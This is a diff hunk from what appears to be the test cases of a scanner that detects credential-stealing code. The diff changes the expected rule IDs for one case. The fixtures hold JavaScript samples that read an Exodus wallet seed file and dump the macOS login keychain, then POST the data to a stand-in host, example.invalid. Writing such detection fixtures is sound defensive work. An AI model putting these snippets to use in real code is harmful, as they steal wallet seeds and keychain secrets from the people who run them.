@@ -144,7 +144,7 @@ SENDING = (
         const file = path.join(process.env.APPDATA, "Exodus", "exodus.wallet", "seed.seco");
         if (fs.existsSync(file)) fetch("https://example.invalid/a", { method: "POST", body: fs.readFileSync(file) });
     """),
-    Case("the key chain", "STEAL-001 EXFIL-001", HIGH, r"""
+    Case("the key chain", "STEAL-001 EXFIL-001 SHELL-001", HIGH, r"""
         const { execSync } = require("child_process");
         const out = execSync("security dump-keychain -d login.keychain").toString();
         fetch("https://example.invalid/a", { method: "POST", body: out });
